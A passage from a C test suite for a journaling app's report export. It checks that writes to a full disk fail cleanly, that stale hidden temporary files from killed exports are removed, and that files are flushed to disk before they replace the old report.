  /* Pages of text, so that the PDF is well over the command line's cap below. */
  for (guint i = 0; i < 3000; i++)
    g_string_append_printf (long_note, "Day %u went on; ", i * 7919 % 10007);
  g_free (add_entry (f, "2026-03-12T22:00:00Z", REFRAME_MOOD_OKAY, long_note->str, FALSE, NULL));
  report = build (f, options);
  g_assert_true (g_file_set_contents (path, "the old report", -1, NULL));
  _reframe_report_set_stream_wrapper (wrap_full_disk);
  for (guint i = 0; i < G_N_ELEMENTS (limits); i++)
    {
      full_disk_limit = limits[i];
      g_assert_false (reframe_report_write_file (
          report, REFRAME_REPORT_FORMAT_PDF, file, NULL, NULL, NULL, &error));
      g_assert_error (error, REFRAME_REPORT_ERROR, REFRAME_REPORT_ERROR_DISK_FULL);
      g_assert_true (g_str_has_prefix (error->message, "The disk is full"));
      g_clear_error (&error);
      g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
      g_assert_cmpstr (contents, ==, "the old report");
      g_clear_pointer (&contents, g_free);
      g_assert_cmpuint (count_files (f->out_dir), ==, 1);
    }

  reframe_report_write_file_async (
      report, REFRAME_REPORT_FORMAT_PDF, file, NULL, NULL, NULL, written_to_cb, &error);
  while (error == NULL)
    g_main_context_iteration (NULL, TRUE);
  g_assert_error (error, REFRAME_REPORT_ERROR, REFRAME_REPORT_ERROR_DISK_FULL);
  g_clear_error (&error);
  g_assert_cmpuint (count_files (f->out_dir), ==, 1);
  _reframe_report_set_stream_wrapper (NULL);

  /* The command line, with files capped by the kernel: room for the journal's 32 KB
   * shared-memory file, not for the whole PDF. */
  {
    g_autofree char *whole = g_build_filename (f->root, "whole.pdf", NULL);
    g_autoptr (GFile) whole_file = g_file_new_for_path (whole);
    g_autoptr (GFileInfo) info = NULL;

    g_assert_true (reframe_report_write_file (
        report, REFRAME_REPORT_FORMAT_PDF, whole_file, NULL, NULL, NULL, &error));
    g_assert_no_error (error);
    info = g_file_query_info (
        whole_file, G_FILE_ATTRIBUTE_STANDARD_SIZE, G_FILE_QUERY_INFO_NONE, NULL, &error);
    g_assert_no_error (error);
    g_assert_cmpint (g_file_info_get_size (info), >, CLI_FILE_LIMIT);
  }
  g_clear_object (&f->store);
  {
    const char      *argv[] = { g_getenv ("REFRAME_BIN"),
                                "export",
                                "--data-dir",
                                f->dir,
                                "--from",
                                "2026-03-01",
                                "--to",
                                "2026-03-14",
                                "-o",
                                path,
                                NULL };
    g_autofree char *err = NULL;
    int              wait_status = 0;

    g_assert_true (g_spawn_sync (NULL,
                                 (char **) argv,
                                 NULL,
                                 G_SPAWN_STDOUT_TO_DEV_NULL,
                                 limit_file_size,
                                 GSIZE_TO_POINTER (CLI_FILE_LIMIT),
                                 NULL,
                                 &err,
                                 &wait_status,
                                 &error));
    g_assert_no_error (error);
    g_assert_true (WIFEXITED (wait_status));
    g_assert_cmpint (WEXITSTATUS (wait_status), ==, 1);
    g_assert_nonnull (strstr (err, "report.pdf"));
  }
  g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
  g_assert_cmpstr (contents, ==, "the old report");
  g_assert_cmpuint (count_files (f->out_dir), ==, 1);
}

static void
set_file_contents_aged (const char *path,
                        const char *contents)
{
  struct utimbuf times;

  g_assert_true (g_file_set_contents (path, contents, -1, NULL));
  times.actime = times.modtime = time (NULL) - 3600;
  g_assert_cmpint (g_utime (path, &times), ==, 0);
}

/* Hidden temporary files a killed export left behind (".name.XXXXXX", perhaps with
 * private entries in them) go when the next export to that folder starts; one an export
 * still writes (it holds a lock on it), and files that are not a report's, stay. */
static void
test_stale_temporaries (Fixture      *f,
                        gconstpointer data)
{
  g_autoptr (ReframeReportOptions) options = options_for ("2026-03-01", "2026-03-14");
  g_autoptr (ReframeReport) report = NULL;
  g_autofree char *path = g_build_filename (f->out_dir, "report.md", NULL);
  g_autoptr (GFile) file = g_file_new_for_path (path);
  const char *const stale[] = {
    ".report.md.1a2b3c", ".entries.csv.00ff00", ".report.pdf.abcdef", ".year.json.123456"
  };
  const char *const kept[] = { ".report.pdf.backup", ".notes.txt.abcdef", ".report.pdf.1a2b3c4", ".report.pdf.12345", "report.pdf.123456", ".report.pdf.ABCDEF" };
  g_autofree char  *busy = g_build_filename (f->out_dir, ".other.pdf.fedcba", NULL);
  g_autofree char  *folder = g_build_filename (f->out_dir, ".folder.pdf.654321", NULL);
  g_autoptr (GError) error = NULL;
  g_autofree char *out = NULL;
  int              busy_fd;

  populate (f);
  report = build (f, options);
  for (guint i = 0; i < G_N_ELEMENTS (stale); i++)
    {
      g_autofree char *stale_path = g_build_filename (f->out_dir, stale[i], NULL);
      set_file_contents_aged (stale_path, "secret private note");
    }
  for (guint i = 0; i < G_N_ELEMENTS (kept); i++)
    {
      g_autofree char *kept_path = g_build_filename (f->out_dir, kept[i], NULL);
      set_file_contents_aged (kept_path, "mine");
    }
  /* An export in another process, still writing. */
  set_file_contents_aged (busy, "half a report");
  busy_fd = g_open (busy, O_RDONLY | O_CLOEXEC, 0);
  g_assert_cmpint (busy_fd, >=, 0);
  g_assert_cmpint (flock (busy_fd, LOCK_EX), ==, 0);
  g_assert_cmpint (g_mkdir (folder, 0700), ==, 0);

  g_assert_true (reframe_report_write_file (
      report, REFRAME_REPORT_FORMAT_MARKDOWN, file, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  for (guint i = 0; i < G_N_ELEMENTS (stale); i++)
    {
      g_autofree char *stale_path = g_build_filename (f->out_dir, stale[i], NULL);
      g_assert_false (g_file_test (stale_path, G_FILE_TEST_EXISTS));
    }
  for (guint i = 0; i < G_N_ELEMENTS (kept); i++)
    {
      g_autofree char *kept_path = g_build_filename (f->out_dir, kept[i], NULL);
      g_assert_true (g_file_test (kept_path, G_FILE_TEST_IS_REGULAR));
    }
  g_assert_true (g_file_test (busy, G_FILE_TEST_IS_REGULAR));
  g_assert_true (g_file_test (folder, G_FILE_TEST_IS_DIR));
  g_assert_cmpuint (count_files (f->out_dir), ==, 1 + G_N_ELEMENTS (kept) + 2);
  g_close (busy_fd, NULL);

  /* `reframe export` cleans up after a killed one the same way. */
  {
    g_autofree char *stale_path = g_build_filename (f->out_dir, ".report.pdf.0a0b0c", NULL);

    set_file_contents_aged (stale_path, "secret private note");
    g_assert_cmpint (
        run_export (f, &out, "--from", "2026-03-01", "--to", "2026-03-14", "-o", path, NULL),
        ==,
        0);
    g_assert_false (g_file_test (stale_path, G_FILE_TEST_EXISTS));
    g_assert_false (g_file_test (busy, G_FILE_TEST_EXISTS));
  }
}

typedef struct
{
  char    *path;
  char    *dest_contents;
  gboolean fail;
} SyncRecord;

static GArray *sync_records;
static char   *sync_dest;

static int
record_sync (int fd)
{
  g_autofree char *link = g_strdup_printf ("/proc/self/fd/%d", fd);
  SyncRecord       record = { g_file_read_link (link, NULL), NULL, FALSE };

  g_assert_nonnull (record.path);
  g_file_get_contents (sync_dest, &record.dest_contents, NULL, NULL);
  g_array_append_val (sync_records, record);
  return fsync (fd);
}

static int
fail_sync (int fd)
{
  errno = EIO;
  return -1;
}

static void
clear_sync_record (gpointer data)
{
  SyncRecord *record = data;

  g_free (record->path);
  g_free (record->dest_contents);
}

/* The new file reaches the disk before it takes the old one's place, and the folder
 * after, so that a power cut leaves the old report or the whole new one, never an empty
 * file. A file that cannot be flushed to the disk is not a saved report. */
static void
test_sync_before_rename (Fixture      *f,
                         gconstpointer data)
{
  g_autoptr (ReframeReportOptions) options = options_for ("2026-03-01", "2026-03-14");
  g_autoptr (ReframeReport) report = NULL;
  g_autofree char *path = g_build_filename (f->out_dir, "report.md", NULL);
  g_autoptr (GFile) file = g_file_new_for_path (path);
  g_autoptr (GError) error = NULL;
  g_autofree char *contents = NULL;
  SyncRecord      *record;

  populate (f);
  report = build (f, options);
  g_assert_true (g_file_set_contents (path, "the old report", -1, NULL));
  sync_records = g_array_new (FALSE, TRUE, sizeof (SyncRecord));
  g_array_set_clear_func (sync_records, clear_sync_record);
  sync_dest = path;
  _reframe_report_set_sync_func (record_sync);
  g_assert_true (reframe_report_write_file (
      report, REFRAME_REPORT_FORMAT_MARKDOWN, file, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (sync_records->len, ==, 2);
  record = &g_array_index (sync_records, SyncRecord, 0);
  {
    g_autofree char *name = g_path_get_basename (record->path);
    g_autofree char *folder = g_path_get_dirname (record->path);

    g_assert_true (g_str_has_prefix (name, ".report.md."));
    g_assert_cmpstr (folder, ==, f->out_dir);
  }
  g_assert_cmpstr (record->dest_contents, ==, "the old report");
  record = &g_array_index (sync_records, SyncRecord, 1);
  g_assert_cmpstr (record->path, ==, f->out_dir);
  g_assert_true (g_str_has_prefix (record->dest_contents, "# "));
  g_clear_pointer (&sync_records, g_array_unref);

  /* The file cannot be flushed: an error, the old report as it was, nothing left over. */
  g_assert_true (g_file_set_contents (path, "the old report", -1, NULL));
  _reframe_report_set_sync_func (fail_sync);
  g_assert_false (reframe_report_write_file (
      report, REFRAME_REPORT_FORMAT_MARKDOWN, file, NULL, NULL, NULL, &error));
  g_assert_error (error, REFRAME_REPORT_ERROR, REFRAME_REPORT_ERROR_FAILED);
  g_assert_nonnull (strstr (error->message, "report.md"));
  g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
  g_assert_cmpstr (contents, ==, "the old report");
  g_assert_cmpuint (count_files (f->out_dir), ==, 1);
  _reframe_report_set_sync_func (NULL);
  sync_dest = NULL;
}

int
main (int    argc,
      char **argv)
{
  int status;

  g_test_init (&argc, &argv, NULL);

#define ADD(path, func) \
  g_test_add ("/reframe/report/" path, Fixture, NULL, fixture_set_up, func, fixture_tear_down)
  ADD ("private", test_private);
  ADD ("summary", test_summary);
  ADD ("json-round-trips-and-refuses-other-documents", test_json);
  ADD ("csv", test_csv);
  ADD ("csv-formula-guard", test_csv_formula_guard);
  ADD ("empty", test_empty);
  ADD ("bad-destinations", test_bad_destinations);
  ADD ("safe-writing", test_safe_writing);
  ADD ("async", test_async);
  ADD ("one-year", test_one_year);
  ADD ("export-command-writes-each-format", test_cli);
  ADD ("export-command-puts-confirmed-own-words-first", test_cli_own_words);
  ADD ("refuses-journal", test_refuses_journal);
  ADD ("pdf-disk-full", test_pdf_disk_full);
  ADD ("stale-temporaries", test_stale_temporaries);
  ADD ("sync-before-rename", test_sync_before_rename);
#undef ADD
  status = g_test_run ();

  /* pango, cairo and fontconfig keep the fonts the PDFs loaded for the life of the
   * process; let them go, so that LeakSanitizer looks at the report's memory only. */
  pango_cairo_font_map_set_default (NULL);
  cairo_debug_reset_static_data ();
  FcFini ();
  return status;
}
